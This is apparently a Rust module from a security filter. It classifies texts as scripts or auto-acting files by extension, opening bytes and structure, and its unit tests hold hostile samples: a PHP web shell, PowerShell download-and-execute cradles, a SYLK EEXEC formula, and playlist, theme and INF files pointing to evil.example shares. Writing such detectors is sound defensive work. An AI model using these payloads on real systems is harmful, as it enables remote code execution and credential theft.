//! Which texts are scripts: what a program acts on when somebody opens it, or an interpreter runs. By their names, by how
//! they begin, and by what they consist of.
//!
//! | | what is known by it |
//! |---|---|
//! | this file | scripts by their names and beginnings, tables of symbolic links |
//! | `settings` | settings in sections, and lists of players |
//! | `documents` | XML documents |
//! | `lines` | scripts by their lines |

mod documents;
mod lines;
mod settings;

pub(super) use documents::acts;
pub(super) use lines::consists;

/// Names' endings of scripts, shortcuts, settings that are taken over by a click, and queries that fetch.
const ENDINGS: &[&str] = &[
    // Windows Script Host and its kin.
    "js",
    "jse",
    "mjs",
    "cjs",
    "vbs",
    "vbe",
    "wsf",
    "wsh",
    "wsc",
    "sct",
    // Shells.
    "bat",
    "cmd",
    "btm",
    "ps1",
    "ps1xml",
    "ps2",
    "psm1",
    "psd1",
    "psc1",
    "sh",
    "bash",
    "zsh",
    "csh",
    "ksh",
    "fish",
    "command",
    "tool",
    // Interpreters.
    "py",
    "pyw",
    "php",
    "php3",
    "php4",
    "php5",
    "php7",
    "phtml",
    "phar",
    "pl",
    "pm",
    "cgi",
    "rb",
    "lua",
    "tcl",
    "awk",
    "scpt",
    "applescript",
    "ahk",
    "au3",
    "jsp",
    "jspx",
    "asp",
    "aspx",
    "asa",
    "asax",
    "ascx",
    "ashx",
    "cfm",
    "groovy",
    "gvy",
    "nut",
    "nse",
    "a3x",
    // Shortcuts and settings.
    "url",
    "website",
    "desktop",
    "webloc",
    "scf",
    "lnk",
    "inf",
    "reg",
    "rdp",
    "rdg",
    "theme",
    "themepack",
    "msc",
    "library-ms",
    "search-ms",
    "searchconnector-ms",
    "settingcontent-ms",
    "appref-ms",
    "application",
    "appcontent-ms",
    "jnlp",
    "contact",
    "group",
    "mobileconfig",
    "pif",
    "pcd",
    "ins",
    "isp",
    "its",
    "diagcab",
    "diagpkg",
    "xbap",
    "osd",
    "osdx",
    "gadget",
    "htc",
    "ica",
    "udl",
    "appinstaller",
    "vsto",
    "terminal",
    "workflow",
    // Lists that a player opens, which lead to shares.
    "asx",
    "wax",
    "wvx",
    "wmx",
    "wpl",
    "zpl",
    // Projects, of which building and sometimes opening runs commands.
    "csproj",
    "vbproj",
    "fsproj",
    "vcxproj",
    "msbuildproj",
    "proj",
    "targets",
    // What spreadsheets fetch, and what printers run.
    "iqy",
    "oqy",
    "rqy",
    "dqy",
    "odc",
    "slk",
    "dif",
    "prn",
    "ps",
    "eps",
    "epsi",
    "epsf",
];

/// How scripts begin, behind blanks, in lower case.
const BEGINNINGS: &[&str] = &[
    "#!/",
    "#! /",
    "#@~^",
    "<?php",
    "<?=",
    "<%",
    "windows registry editor version",
    "regedit4",
    "@echo off",
    "@powershell",
    "%!ps",
    "%!\n",
    "%!\r",
    "web\r\n1\r\n",
    "web\n1\n",
    "odbc\r\n1\r\n",
    "xlodbc\r\n1\r\n",
    "option explicit",
    "on error resume next",
    "full address:s:",
    "screen mode id:i:",
];

/// Whether names that end so are scripts'; `ending` is in lower case.
pub(super) fn is_ending(ending: &str) -> bool {
    ENDINGS.contains(&ending)
}

/// Whether a text is a script by how it begins.
pub(super) fn begins(text: &str) -> bool {
    let text = text.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{feff}');
    let head = text.get(..text.floor_char_boundary(64)).unwrap_or(text).to_ascii_lowercase();
    BEGINNINGS.iter().any(|begin| head.starts_with(begin)) || settings::acts(text) || is_sylk(text)
}

/// A sheet of symbolic links (SYLK), which spreadsheets run formulas of: a table may begin with the same letters.
fn is_sylk(text: &str) -> bool {
    let mut lines = text.lines();
    let first = lines.next().is_some_and(|line| line.starts_with("ID;P"));
    let record = |line: &str| {
        line.split(';')
            .next()
            .is_some_and(|name| ["P", "B", "F", "C", "O", "NN", "NE", "NU", "W", "E"].contains(&name))
    };
    first && lines.next().is_none_or(record)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_are_known_by_how_they_begin_and_what_they_consist_of() {
        let scripts = [
            "#!/bin/sh\necho hi\n",
            "\u{feff}  [InternetShortcut]\r\nURL=http://a.example\r\n",
            "[Desktop Entry]\nExec=sh -c x\n",
            "Windows Registry Editor Version 5.00\r\n",
            "%!PS-Adobe-3.0\n",
            "[Shell]\r\nCommand=2\r\n",
            "ID;PWXL;N;E\nC;Y1;X1;K0;EEXEC(\"calc\")\n",
            "WEB\r\n1\r\nhttp://a.example/x\r\n",
            "<?php system($_GET['c']);",
            "Set sh = CreateObject(\"WScript.Shell\")\nsh.Run \"calc.exe\"\nMsgBox \"hi\"\n",
            "var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"calc\");\n",
            "$c = New-Object Net.WebClient\nIEX $c.DownloadString('http://a.example/x')\n",
            "IEX (New-Object Net.WebClient).DownloadString('http://a.example/x.ps1')",
            "import os\nimport socket\nos.system('id')\n",
            "eval(atob(\"YWxlcnQoMSk=\"));",
            "#EXTM3U\n\\\\evil.example\\x\n",
            "[playlist]\nFile1=file://evil.example/x\n",
            "[Theme]\nDisplayName=x\n[boot]\nSCRNSAVE.EXE=\\\\evil.example\\x.scr\n",
            "[version]\nsignature = \"$Windows NT$\"\n[a]\nb=\\\\evil.example\\x\n",
            "[version]\nsignature=$chicago$\n[DefaultInstall]\nUnRegisterOCXs=x\n",
            "#EXTM3U\n//evil.example/x\n",
            "#EXTM3U\n#EXTINF:-1 tvg-id=\"a\" tvg-logo=\"\\/evil.example/x\",a\nhttps://a.example/1.ts\n",
            "[playlist]\nFile1 = smb://evil.example/x\n",
            "; Themes\n\n[Theme]\nWallpaper=//evil.example/x.jpg\n",
            "# One that starts\n[Other]\na=b\n[Desktop Entry]\nExec=sh -c x\n",
            "[ApplicationServers]\nx=\n[x]\nInitialProgram=#calc\n",
        ];
        for text in scripts {
            assert!(begins(text) || consists(text), "{text}");
        }
        let others = [
            "",
            "Dear Jane,\n\nthe macro calls CreateObject(\"Word\").\nPlease remove it.\n\nYours\nJohn\n",
            "To fetch it run this in a terminal:\n\n    curl https://a.example\n\nThen open the file and read on.\n",
            "id;name;city\n1;Jane;Ulm\n",
            "id;product;price\n1;a;5\n",
            "ID;PRICE\n1;5\n",
            "#![allow(unused)]\nfn main() { exec(); }\n// in one line\nuse a::b\n",
            "[shell]\nname = sh\n",
            "Web: https://a.example\n1. one\n",
            "key = value\nother = 5\n",
            "[section]\nname=Jane\n",
            "2026-01-01 12:00:00 INFO cmd.exe started by Jane from 10.0.0.1\n2026-01-01 12:00:01 WARN it ended\n",
            "# Notes\n\n- use `eval(x)` with care\n- never trust input\n- ask Jane\n",
            "a,b,c\n1,2,powershell\n",
            "#EXTM3U\n#EXTINF:9,\nhttps://a.example/1.ts\n",
            "[version]\nnumber=5\n",
            "[Theme]\nWallpaper=%SystemRoot%\\web\\x.jpg\n",
            "# Notes\n\n[Autorun](https://a.example) is off, [Desktop Entry][1] is not.\n\n[Desktop Entry]: https://a.example\n",
            "[version]\nnumber = 5\n[paths]\nshare = \\\\server\\x\n",
            "To start it write this:\n[Desktop Entry]\nExec=sh\n",
        ];
        for text in others {
            assert!(!begins(text) && !consists(text), "{text}");
        }
    }
}
